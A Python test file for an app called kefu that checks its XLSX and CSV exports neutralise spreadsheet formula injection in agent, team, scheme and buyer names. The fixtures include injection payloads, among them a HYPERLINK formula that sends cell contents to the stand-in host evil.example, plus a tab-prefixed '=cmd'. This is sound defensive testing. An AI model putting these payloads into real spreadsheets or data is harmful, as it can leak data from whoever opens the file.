"""Formula injection (issue #12.3): every XLSX and CSV kefu writes keeps hostile names as text.

A shop whose agent name, team, employer, account, scheme and component names
and buyer nick start with = + - @ or a tab; every export the CLI and the web
app write is read back: no XLSX cell is a formula unless kefu wrote it (the
payroll's SUM totals), and no CSV cell starts with a formula character
unless prefixed with ' (OWASP CSV Injection).
"""

from __future__ import annotations

import csv
import io
import shutil

import pytest
from openpyxl import load_workbook
from shops import msg, order, write_table
from typer.testing import CliRunner

from kefu.cli.main import app as cli
from kefu.exports import FORMULA_START, csv_safe
from kefu.ingest.pipeline import import_paths
from kefu.users import add_user
from kefu.workspace import Workspace

runner = CliRunner()
AGENT = "s:=1+1"  # the account itself
NAME, TEAM, VENDOR = '=HYPERLINK("http://x.example","点我")', "+售前组", "@外包公司"
BUYER = '=HYPERLINK("http://evil.example/?"&A1,"查看")'
IN_HOUSE = "s:-2+3"
SCHEME = """name = "{name}"
effective_from = "2026-01"
[applies_to]
employers = ["{employer}"]
[base]
amount = 3000
[[components]]
kind = "commission"
name = "-提成"
rate = "1%"
"""


@pytest.fixture(scope="module")
def ws(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    data = root / "data"
    data.mkdir()
    write_table(
        data,
        "agents",
        [
            {"agent": AGENT, "name": NAME, "shop": "s", "team": TEAM, "role": "presales", "employer": VENDOR},
            {
                "agent": IN_HOUSE,
                "name": "\t=cmd",
                "shop": "s",
                "team": TEAM,
                "role": "presales",
                "employer": "in_house",
            },
        ],
    )
    write_table(
        data,
        "messages",
        [
            msg("10:00:00", "buyer", AGENT, BUYER, text="=1+2"),
            msg("10:00:30", "agent", AGENT, BUYER, text="@在的"),
            msg("11:00:00", "buyer", IN_HOUSE, "b2"),
            msg("11:00:10", "agent", IN_HOUSE, "b2"),
        ],
    )
    write_table(data, "orders", [order("o1", "11:05:00", "11:06:00", "88.00", buyer="b2")])
    path = root / "ws"
    w = Workspace.open(path, create=True)
    reports = import_paths(w, [data])
    assert all(r.rejected == 0 and not r.error for r in reports), [r.problems for r in reports]
    add_user(w.con, name="boss", role="admin", password="s3cret-pass")
    w.close()
    (path / "schemes").mkdir()
    (path / "schemes" / "vendor.toml").write_text(SCHEME.format(name="=外包方案", employer=VENDOR), encoding="utf-8")
    (path / "schemes" / "in_house.toml").write_text(
        SCHEME.format(name="+自营方案", employer="in_house"), encoding="utf-8"
    )
    return path


def kefu(*args) -> str:
    result = runner.invoke(cli, [str(a) for a in args], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.stdout


def assert_no_formula(source, allowed=lambda cell: False) -> list[str]:
    """Every cell of every sheet: text, number or blank, never a formula kefu did not write. Returns the text cells."""
    wb = load_workbook(source)
    texts = []
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f" or allowed(cell), (
                    f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                )
                if cell.data_type == "s":
                    texts.append(cell.value)
    return texts


def assert_csv_safe(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"CSV cell {cell!r} starts a formula"
    return rows


def is_sum(cell) -> bool:
    return cell.data_type == "f" and str(cell.value).startswith("=SUM(")


def test_csv_safe_follows_owasp():
    assert [csv_safe(v) for v in ("=1+1", "+1", "-1", "@a", "\tx", "\rx", "小王", "", "a=b")] == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "'\rx",
        "小王",
        "",
        "a=b",
    ]
    assert [csv_safe(v) for v in (-3.5, 0, None)] == [-3.5, 0, None]  # numbers stay numbers


def test_daily_report_xlsx_from_the_cli(ws, tmp_path):
    kefu("report", "daily", ws, "--date", "2026-11-11", "--xlsx", tmp_path / "日报.xlsx")
    texts = assert_no_formula(tmp_path / "日报.xlsx")
    assert NAME in texts and TEAM in texts and "\t=cmd" in texts  # the names, exactly as typed, as text


def test_payroll_and_settlement_xlsx_from_the_cli(ws, tmp_path):
    kefu("pay", ws, "--month", "2026-11", "--xlsx", tmp_path / "工资表.xlsx")
    texts = assert_no_formula(tmp_path / "工资表.xlsx", allowed=is_sum)
    assert {NAME, TEAM, VENDOR, AGENT, "=外包方案", "+自营方案", "-提成"} <= set(texts)
    kefu("pay", "settlement", ws, "--month", "2026-11", "--xlsx", tmp_path / "结算.xlsx")
    texts = assert_no_formula(tmp_path / "结算.xlsx", allowed=is_sum)
    assert NAME in texts and f"{VENDOR} 结算单 2026-11" in texts


def test_cli_csv_outputs(ws):
    rows = assert_csv_safe(kefu("kpi", ws, "--by", "agent,day", "--format", "csv"))
    assert AGENT in [r[1] for r in rows]  # not a formula start: left as it is
    rows = assert_csv_safe(kefu("pay", ws, "--month", "2026-11", "--format", "csv"))
    assert "'" + NAME in rows[1] + rows[2]
    kefu("qc", "run", ws, "--from", "2026-11-11", "--to", "2026-11-11")
    assert_csv_safe(kefu("qc", "scores", ws, "--from", "2026-11-11", "--to", "2026-11-11", "--format", "csv"))
    assert_csv_safe(kefu("qc", "findings", ws, "--format", "csv"))
    assert_csv_safe(kefu("qc", "review", "list", ws, "--format", "csv"))


def test_web_exports(ws, tmp_path):
    from fastapi.testclient import TestClient

    from kefu.web.app import create_app

    served = tmp_path / "served"
    shutil.copytree(ws, served)
    application = create_app(served, secure_cookies=True)
    try:
        client = TestClient(application, base_url="https://testserver", follow_redirects=False)
        client.get("/login")
        headers = {"X-CSRF-Token": client.cookies.get("kefu_csrf")}
        assert (
            client.post("/api/session", json={"name": "boss", "password": "s3cret-pass"}, headers=headers).status_code
            == 200
        )
        lost = client.get("/losses.csv", params={"shop": "s", "date": "2026-11-11"})
        assert lost.status_code == 200
        rows = assert_csv_safe(lost.content.decode("utf-8"))
        assert rows[1][2:4] == [AGENT, "'" + BUYER]  # the lost buyer, marked as text
        for url, params, allowed in (
            ("/reports/daily.xlsx", {"shop": "s", "date": "2026-11-11"}, lambda c: False),
            ("/pay/payroll.xlsx", {"month": "2026-11"}, is_sum),
            ("/pay/settlement.xlsx", {"month": "2026-11"}, is_sum),
        ):
            r = client.get(url, params=params)
            assert r.status_code == 200, (url, r.text)
            assert NAME in assert_no_formula(io.BytesIO(r.content), allowed), url
    finally:
        application.state.store.close()
